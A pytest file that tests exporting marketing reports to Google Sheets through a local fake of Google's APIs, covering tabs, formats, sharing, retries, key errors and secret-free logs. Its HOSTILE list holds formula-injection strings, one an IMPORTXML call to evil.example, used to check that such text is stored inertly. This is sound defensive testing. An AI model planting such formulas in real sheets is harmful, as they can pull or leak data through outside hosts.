"""A report as a Google Sheet, written to a stand-in of Google's APIs on loopback."""

import copy
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import date, timedelta
from pathlib import Path

import pytest
from dagster import AssetKey

from analytics_assets.automation.run_grouping import PlannedRun
from analytics_assets.foundation.failures import sentence
from analytics_assets.partitions import Window
from analytics_assets.reports import google_sheet
from analytics_assets.reports.google_sheet import SheetError, send
from analytics_assets.reports.index_asset import index_file
from analytics_assets.reports.tabs import NumberFormat, Tab
from analytics_assets.settings import Sheets
from analytics_assets.spec.report import Format
from analytics_assets_tests.support.google_api import ACCOUNT, GoogleApi, HeldSpreadsheet, HeldTab, served
from analytics_assets_tests.support.project import YESTERDAY, Project

pytestmark = pytest.mark.models_alone

TITLE = 'Marketing, it\'s \\ a "report"'
COUNT, MONEY = NumberFormat(Format.COUNT, "#,##0"), NumberFormat(Format.MONEY, '#,##0.00 "€"')

DAYS = Tab(
    "Days",
    ("Day (UTC)", "Spend", "Share", "Users"),
    [[date(2026, 1, 5), 10.5, 0.25, 3.0], [date(2026, 1, 6), 31.5, None, 4.0]],
    (None, MONEY, NumberFormat(Format.SHARE, "0.0%"), COUNT),
    named_by=1,
)
HOSTILE = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "'=1",
    "\t=1",
    '=IMPORTXML("http://evil.example","//a")',
    "1.5",
    "2026-01-05",
)
NAMES = Tab("Names", ("Name", "Number"), [[name, 1.0] for name in HOSTILE], (None, COUNT), named_by=1)
TABS = [DAYS, NAMES]


@dataclass
class Google:
    """The stand-in, and the settings with which it is reached."""

    api: GoogleApi
    settings: Sheets

    def send(self, tabs: list[Tab] = TABS, **changes: object) -> str:
        return send(self.settings.model_copy(update=changes), TITLE, tabs, wait_seconds=0)

    @property
    def sheet(self) -> HeldSpreadsheet:
        (only,) = self.api.spreadsheets.values()
        return only


@pytest.fixture
def google(tmp_path: Path) -> Iterator[Google]:
    api = GoogleApi()
    with served(api) as url:
        yield Google(api, Sheets(key_file=api.key_file(tmp_path, url), api_endpoint=url))


# ------------------------------------------------------------------------------------------------------- the tabs


def test_a_sheet_is_made_with_one_tab_a_table_and_shared_without_a_mail(google: Google) -> None:
    link = google.send(share_with="ann@example.com, ben@example.com")
    assert link == "https://docs.google.com/spreadsheets/d/made-1"
    assert google.sheet.name == TITLE
    assert google.sheet.titles == ["Days", "Names"], "the empty tab with which Google makes one is gone"
    days = google.sheet.tab("Days")
    assert days.values == [list(DAYS.headings), [46027, 10.5, 0.25, 3.0], [46028, 31.5, None, 4.0]]
    assert date(1899, 12, 30) + timedelta(46027) == date(2026, 1, 5)
    assert [days.pattern(1, at) for at in range(4)] == ["yyyy-mm-dd", '#,##0.00 "€"', "0.0%", "#,##0"]
    assert {reader["emailAddress"]: reader["role"] for reader in google.sheet.readers} == {
        "ann@example.com": "reader",
        "ben@example.com": "reader",
    }
    assert google.api.mails == 0
    batches = [one for one in google.api.requests if one.endswith(":batchUpdate")]
    assert len(batches) == len(TABS) + 1, "one a tab, and one for the empty tab"


def test_a_text_is_a_text_whatever_it_begins_with(google: Google) -> None:
    google.send()
    assert [row[0] for row in google.sheet.tab("Names").values[1:]] == list(HOSTILE)


def test_a_second_run_gives_the_same_sheet(google: Google) -> None:
    link = google.send(share_with="ann@example.com")
    before = copy.deepcopy(google.api.spreadsheets)
    assert google.send(share_with="Ann@example.com") == link
    assert google.api.spreadsheets == before


def test_a_tab_is_replaced_as_a_whole_and_a_persons_own_tab_stays(google: Google) -> None:
    google.send()
    own = HeldTab({"sheetId": 7, "title": "My notes", "gridProperties": {"rowCount": 9, "columnCount": 9}})
    own.cells[0, 0] = {"userEnteredValue": {"stringValue": "mine"}}
    google.sheet.tabs[7] = own
    number = google.sheet.tab("Days").properties["sheetId"]
    shorter = replace(DAYS, headings=DAYS.headings[:2], rows=[[date(2026, 1, 7), 1.0]], formats=DAYS.formats[:2])
    google.send([shorter])
    assert google.sheet.tab("Days").values == [["Day (UTC)", "Spend"], [46029, 1.0]]
    assert google.sheet.tab("Days").properties["sheetId"] == number, "a chart that reads it still finds it"
    assert google.sheet.tab("My notes") == own
    assert len(google.sheet.tab("Names").values) == 1 + len(HOSTILE)
    google.send([replace(shorter, rows=[])])
    assert google.sheet.tab("Days").values == [["Day (UTC)", "Spend"], [None, None]]


def test_a_spreadsheet_that_is_there_is_taken_but_no_strangers_and_none_in_the_bin(google: Google) -> None:
    grid = {"rowCount": 1000, "columnCount": 26}

    def spreadsheet(**what: object) -> HeldSpreadsheet:
        first = HeldTab({"sheetId": 0, "title": "Sheet1", "gridProperties": dict(grid)})
        return HeldSpreadsheet(TITLE, tabs={0: first}, **what)  # type: ignore[arg-type]

    strangers = google.api.spreadsheets["a"] = spreadsheet(owner="eve@evil.example")
    binned = google.api.spreadsheets["b"] = spreadsheet(is_trashed=True)
    persons = google.api.spreadsheets["c"] = spreadsheet(owner="ann@example.com", folder="a-folder")
    assert google.send(folder="a-folder").endswith("/c")
    assert persons.titles == ["Sheet1", "Days", "Names"], "of a spreadsheet that is there nothing is taken away"
    assert google.send().endswith("/made-4"), "its own"
    assert strangers.titles == binned.titles == ["Sheet1"]


# ---------------------------------------------------------------------------------------------------------- faults


@pytest.mark.parametrize("fault", ["429", "503", "503 after", "403 userRateLimitExceeded"])
def test_a_fault_that_passes_changes_nothing_whichever_request_it_meets(tmp_path: Path, fault: str) -> None:
    def sent(faults: dict[int, str]) -> GoogleApi:
        api = GoogleApi(faults=faults)
        with served(api) as url:
            settings = Sheets(key_file=api.key_file(tmp_path, url), api_endpoint=url, share_with="ann@example.com")
            assert send(settings, TITLE, TABS, wait_seconds=0).endswith("made-1")
        return api

    usual = sent({})
    for number in range(1, len(usual.requests) + 1):
        api = sent({number: fault})
        assert len(api.requests) >= len(usual.requests)
        (sheet,) = api.spreadsheets.values()
        assert sheet == usual.spreadsheets["made-1"], usual.requests[number - 1]


def test_the_waits_double_and_cover_the_minute_of_a_quota(google: Google, monkeypatch: pytest.MonkeyPatch) -> None:
    waits: list[float] = []
    monkeypatch.setattr("tenacity.nap.time.sleep", waits.append)
    google.api.faults = dict.fromkeys(range(1, 100), "429")
    with pytest.raises(SheetError, match="Google answers 429: Quota exceeded") as error:
        send(google.settings, TITLE, TABS, wait_seconds=5)
    assert waits == [5, 10, 20, 40, 80]
    assert error.value.may_pass
    assert len(google.api.requests) == google_sheet.TRIES


def test_a_refusal_is_not_tried_again(google: Google) -> None:
    google.api.faults = {1: "403 forbidden"}
    with pytest.raises(SheetError) as error:
        google.send()
    assert not error.value.may_pass
    assert len(google.api.requests) == 1


def test_an_account_that_may_own_no_file_is_told_how_to_be_given_one(google: Google) -> None:
    google.api.has_storage = False
    with pytest.raises(SheetError) as error:
        google.send()
    for part in ("storage quota", ACCOUNT, "ANALYTICS_SHEETS__FOLDER"):
        assert part in sentence(error.value)
    assert not error.value.may_pass


def test_nobody_who_listens_is_a_fault_that_may_pass(google: Google) -> None:
    with pytest.raises(SheetError, match="Google cannot be reached") as error:
        google.send(api_endpoint="http://127.0.0.1:9")
    assert error.value.may_pass


def edited(change: Callable[[str], str]) -> Callable[[Path], None]:
    return lambda file: file.write_text(change(file.read_text())) and None


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (lambda file: file.unlink(), "key.json of ANALYTICS_SHEETS__KEY_FILE cannot be used: No such file"),
        (edited(lambda text: text[:-20]), "it is no key of a service account"),
        (edited(lambda text: text.replace("BEGIN PRIVATE", "BEGIN")), "it is no key of a service account"),
        (edited(lambda text: text.replace("token_uri", "uri")), "it is no key of a service account"),
    ],
)
def test_a_key_that_cannot_be_used_is_named_and_not_quoted(
    google: Google, spoil: Callable[[Path], None], said: str
) -> None:
    spoil(google.settings.key_file)
    with pytest.raises(SheetError, match=said) as error:
        google.send()
    assert not error.value.may_pass
    assert error.value.__suppress_context__, "Dagster logs what an error came from"
    assert not [secret for secret in google.api.secrets if secret in str(error.value)]


def test_the_key_of_another_account_is_refused_at_once(google: Google, tmp_path: Path) -> None:
    (tmp_path / "other").mkdir()
    other = GoogleApi().key_file(tmp_path / "other", str(google.settings.api_endpoint))
    with pytest.raises(SheetError, match="invalid_grant") as error:
        google.send(key_file=other)
    assert not error.value.may_pass
    assert google.api.requests == []


# -------------------------------------------------------------------------------------------------------- the asset


def metadata_of(project: Project) -> dict:
    event = project.instance.get_latest_materialization_event(AssetKey("marketing_sheet"))
    assert event and event.asset_materialization
    return {name: value.value for name, value in event.asset_materialization.metadata.items()}


def test_without_an_account_nothing_is_sent_and_the_asset_says_how_it_would_be(reported: Project) -> None:
    found = metadata_of(reported)
    assert "ANALYTICS_SHEETS__KEY_FILE" in found["sent_nothing"]
    assert "sheet" not in found
    assert "marketing_sheet" not in reported.requested()


def test_the_newest_day_is_sent_once_there_is_an_account_and_again_when_it_changes(
    reported: Project, tmp_path: Path, google: Google, capfd: pytest.CaptureFixture[str]
) -> None:
    copied = reported.copy_to(tmp_path / "data", with_state=True)
    place = {"key_file": google.settings.key_file, "api_endpoint": google.settings.api_endpoint}
    project = Project(copied.folder, copied.domains, copied.changes | {"sheets": place})
    project.instance = copied.instance
    assert project.requested() == {"marketing_sheet": {str(YESTERDAY)}}, "an account is a reason"
    google.api.faults = {3: "429", 5: "503"}
    assert project.settle().outcome.files == {"marketing_sheet": "https://docs.google.com/spreadsheets/d/made-1"}
    assert project.requested() == {}

    found = metadata_of(project)
    assert found["sheet"] == "https://docs.google.com/spreadsheets/d/made-1"
    assert google.sheet.name == "Marketing and attribution"
    assert google.sheet.titles == [
        "About",
        "Days",
        "Channels",
        "Campaigns",
        "Cohorts",
        "LTV by age",
        "Users",
        "Quality",
        "Credit by channel",
        "Credit by campaign",
        "Credit by model",
        "Credit by day",
        "Clicks and views",
        "Paths",
        "All models",
        "Recommendations in numbers",
        "How each figure is made",
    ]
    roas = next(row for row in google.sheet.tab("How each figure is made").values if row[0] == "Return on ad spend")
    assert "(sum of " in roas[2] and "%" in roas[3]
    facts = json.loads((project.settings.exports_dir / ".facts" / "marketing_sheet.json").read_text())
    assert facts == {"link": found["sheet"]}
    assert found["sheet"] in index_file(project.settings).read_text(), "the page of all reports leads to it"
    assert ["As of", str(YESTERDAY)] in google.sheet.tab("About").values
    headings, *rows = google.sheet.tab("Days").values
    spend = sum(float(row[headings.index("Spend")] or 0) for row in rows)
    assert spend == pytest.approx(float(project.frame("campaign_performance_daily")["spend"].sum()))
    assert spend > 0

    before = copy.deepcopy(google.api.spreadsheets)
    runner = project.runner()
    assert runner.make([PlannedRun(("marketing_sheet",), Window.of_days(YESTERDAY, YESTERDAY))])
    assert google.api.spreadsheets == before, "law 1"
    asked, older = len(google.api.requests), YESTERDAY - timedelta(days=3)
    assert runner.make([PlannedRun(("marketing_sheet",), Window.of_days(older, older))])
    assert len(google.api.requests) == asked, "an older report is no news"
    assert "newest day alone" in metadata_of(project)["sent_nothing"]

    logged = "".join(
        f"{entry.user_message} {entry.dagster_event}"
        for record in project.instance.get_runs()
        for entry in project.instance.all_logs(record.run_id)
    )
    assert "marketing_sheet" in logged
    assert not [secret for secret in google.api.secrets if secret in logged + "".join(capfd.readouterr())]
